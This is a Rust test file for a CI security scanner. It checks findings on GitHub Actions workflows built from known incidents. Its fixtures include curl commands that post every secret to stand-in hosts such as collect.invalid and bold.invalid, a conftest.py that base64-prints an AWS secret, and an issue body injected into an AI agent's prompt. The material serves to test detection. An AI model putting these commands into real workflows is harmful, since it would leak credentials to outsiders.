//! The shapes of known incidents: the rule, the line, the sentence, and nothing beside it.

use beholden::power::{DefaultToken, Ground};

use crate::rules_flows::shown::{CI, job, may, public, said_on, steps, table};

#[test]
fn what_known_incidents_would_have_been_told() {
    let none = String::new;
    let pr = "pull_request_target";
    table(&[
        (
            "a script from the network in a job that holds a secret",
            none(),
            steps(
                "push",
                "- run: bash <(curl -s https://codecov.invalid/bash)\n  env: {CODECOV_TOKEN: '${{ secrets.CODECOV_TOKEN }}'}",
            ),
            &[
                "high remote-script-beside-secrets ci.yml:7 People who may push can set off the job `build`, where what `https://codecov.invalid/bash` answers runs unchecked, with the secret `CODECOV_TOKEN`.",
            ],
        ),
        (
            "secrets posted on every push",
            none(),
            steps(
                "push",
                "- run: curl -X POST -d '${{ toJSON(secrets) }}' https://collect.invalid/",
            ),
            &[
                "critical secret-leaves ci.yml:7 People who may push can set off the job `build`, which sends every secret that it can see to `collect.invalid`.",
            ],
        ),
        (
            "a new workflow with an identity token",
            none(),
            may(&steps("push", "- run: 'true'"), "id-token: write"),
            &[
                "medium oidc-trust-added ci.yml:2 People who may push can set off the job `build`, which can now get identity tokens and log in wherever they are taken; no file says where.",
            ],
        ),
        (
            "all secrets to a catcher and to the log",
            none(),
            steps(
                "push",
                "- run: |\n    DATA=\"${{ toJSON(secrets) }}\"\n    curl -d \"$DATA\" https://webhook.invalid/x\n    echo \"$DATA\" | base64 | base64",
            ),
            &[
                "critical secret-leaves ci.yml:9 People who may push can set off the job `build`, which sends every secret that it can see to `webhook.invalid`.",
                "critical secret-leaves ci.yml:10 People who may push can set off the job `build`, which prints every secret that it can see into the log in a form that nothing masks.",
            ],
        ),
        (
            "an action at a tag with a bot's token",
            none(),
            steps(
                "push",
                "- uses: aquasecurity/trivy-action@0.28.0\n  with: {token: '${{ secrets.BOT_PAT }}'}",
            ),
            &[
                "high third-party-action-receives ci.yml:7 The action `aquasecurity/trivy-action` is held to a tag, which its owner can move, and works with the secret `BOT_PAT` in the job `build`.",
            ],
        ),
        (
            "a pull request's build files under a privileged trigger",
            none(),
            steps(
                pr,
                "- uses: actions/checkout@v4\n  with: {ref: '${{ github.event.pull_request.head.sha }}'}\n- run: npm ci\n  env: {AWS: '${{ secrets.AWS }}'}",
            ),
            &[
                "critical privileged-trigger-runs-untrusted-code ci.yml:9 Anyone who can open a pull request can set off the job `build`, which executes the files of a pull request (`${{ github.event.pull_request.head.sha }}`), with the secret `AWS`.",
            ],
        ),
        (
            "the same, with nothing seen to run them",
            none(),
            may(
                &steps(
                    pr,
                    "- uses: actions/checkout@v4\n  with: {ref: '${{ github.event.pull_request.head.sha }}'}\n- run: git diff --stat",
                ),
                "contents: write",
            ),
            &[
                "medium privileged-trigger-runs-untrusted-code ci.yml:8 Anyone who can open a pull request can set off the job `build`, which puts the files of a pull request (`${{ github.event.pull_request.head.sha }}`) on its disk, where nothing is seen to run it yet, with `contents: write`.",
            ],
        ),
        (
            "a title in a script that gains power",
            steps("issues", "- run: echo '${{ github.event.issue.title }}'"),
            may(
                &steps("issues", "- run: echo '${{ github.event.issue.title }}'"),
                "contents: write",
            ),
            &[
                "critical untrusted-text-executed ci.yml:7 Anyone who can open an issue can set off the job `build`, which writes a text of theirs into a script (`github.event.issue.title`), with `contents: write`.",
            ],
        ),
        (
            "an issue's body in the prompt of an agent that checks who starts it",
            none(),
            steps(
                "issues",
                "- uses: anthropics/claude-code-action@v1\n  with:\n    anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}\n    prompt: 'Look at ${{ github.event.issue.body }}'",
            ),
            &[
                "high untrusted-text-prompted ci.yml:10 Only people who may push can start the agent `claude`, but what anybody writes is part of its task (`github.event.issue.body`), and it works with the secret `ANTHROPIC_API_KEY`.",
            ],
        ),
    ]);
}

#[test]
fn a_title_pasted_into_a_here_document_where_tokens_write() {
    let check = "on: {pull_request_target: {types: [opened, edited]}}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat <<EOF > title.txt\n          ${{ github.event.pull_request.title }}\n          EOF\n";
    let ground = Ground { default_token: Some(DefaultToken::Write), ..public() };
    let said = said_on(&ground, &[], &[(CI, check)]);
    assert_eq!(said.len(), 1, "one sentence tells all: {said:#?}");
    let starts = "critical untrusted-text-executed ci.yml:8 Anyone who can open a pull request can set off the job `build`, which writes a text of theirs into a script (`github.event.pull_request.title`), with ";
    assert!(said[0].starts_with(starts), "{said:#?}");
}

#[test]
fn a_secret_that_a_thief_makes_a_second_workflow_read() {
    let publish = steps(
        "release",
        "- run: twine upload\n  env: {TWINE_PASSWORD: '${{ secrets.PYPI_API_TOKEN }}'}",
    );
    let thief = "name: Github Actions Security\non: push\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s -X POST -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}' https://bold.invalid/\n";
    let theirs = ".github/workflows/github_actions_security.yml";
    assert_eq!(
        said_on(&public(), &[(CI, &publish)], &[(CI, &publish), (theirs, thief)]),
        [
            "critical secret-leaves github_actions_security.yml:7 People who may push can set off the job `send`, which sends the secret `PYPI_API_TOKEN` to `bold.invalid`."
        ]
    );
}

#[test]
fn a_branch_name_in_a_shared_action_and_the_cache_behind_it() {
    let action = "inputs: {}\nruns:\n  using: composite\n  steps:\n    - run: git pull origin ${{ github.head_ref || github.ref }}\n      shell: bash\n";
    let format = steps("[pull_request_target, push]", "- uses: ./format");
    let publish = job("push", "steps:\n  - uses: actions/setup-python@v5\n    with: {cache: pip}\n  - uses: pypa/gh-action-pypi-publish@release/v1\n    with: {password: '${{ secrets.PYPI_TOKEN }}'}").replace("build:", "publish:");
    let safe = action.replace("github.head_ref || github.ref", "github.ref_name");
    let release = (".github/workflows/publish.yml", publish.as_str());
    let base = [(CI, format.as_str()), ("format/action.yml", &safe), release];
    let head = [(CI, format.as_str()), ("format/action.yml", action), release];
    let said = said_on(&public(), &base, &head);
    let rules: Vec<_> = said.iter().map(|line| line.split(' ').nth(1).unwrap()).collect();
    assert!(rules.contains(&"untrusted-text-executed"), "{said:#?}");
    let cache = "high cache-crosses-trust publish.yml:7 Outsiders who run code in the job `build` of `ci.yml` can fill caches that the job `publish` restores, and `publish` works with the secret `PYPI_TOKEN`.";
    assert!(said.iter().any(|line| line == cache), "{said:#?}");
}

#[test]
fn a_build_file_of_a_pull_request_that_runs_before_anybody_merges_it() {
    let ci = may(
        &steps(
            "pull_request_target",
            "- uses: actions/checkout@v4\n  with: {ref: '${{ github.event.pull_request.head.sha }}'}\n- run: |\n    pytest\n    make\n  env: {AWS: '${{ secrets.AWS_ROLE }}'}",
        ),
        "contents: write",
    );
    let make = ("Makefile", "all:\n\ttrue\n");
    let stolen = "import base64, os\nprint(base64.b64encode(os.environ['AWS'].encode()))\n";
    let base = [(CI, ci.as_str()), make];
    let says = "high exposed-file-changed conftest.py:1 `conftest.py` runs in the job `build` before anybody merges it, with `contents: write` and the secret `AWS_ROLE`; anyone who can open a pull request can set it off.";
    let head = [(CI, ci.as_str()), make, ("conftest.py", stolen)];
    assert_eq!(said_on(&public(), &base, &head), [says], "a new file");
    let before = [(CI, ci.as_str()), make, ("conftest.py", "import os\n")];
    assert_eq!(said_on(&public(), &before, &head), [says], "another text");
    assert_eq!(said_on(&public(), &head, &base), Vec::<String>::new(), "a file less");
    let both =
        [(CI, ci.as_str()), ("Makefile", "all:\n\tcurl x.invalid\n"), ("conftest.py", stolen)];
    assert_eq!(
        said_on(&public(), &base, &both),
        [
            "high exposed-file-changed Makefile:1 `Makefile` and `conftest.py` run in the job `build` before anybody merges them, with `contents: write` and the secret `AWS_ROLE`; anyone who can open a pull request can set it off."
        ],
        "one sentence for one job"
    );
    let merged =
        ci.replace("  with: {ref: '${{ github.event.pull_request.head.sha }}'}", "  with: {}");
    let merged = merged.replace("pull_request_target", "push");
    let (base, head) = ([(CI, merged.as_str()), make], [(CI, merged.as_str()), make, head[2]]);
    assert_eq!(said_on(&public(), &base, &head), Vec::<String>::new(), "only what was merged runs");
}
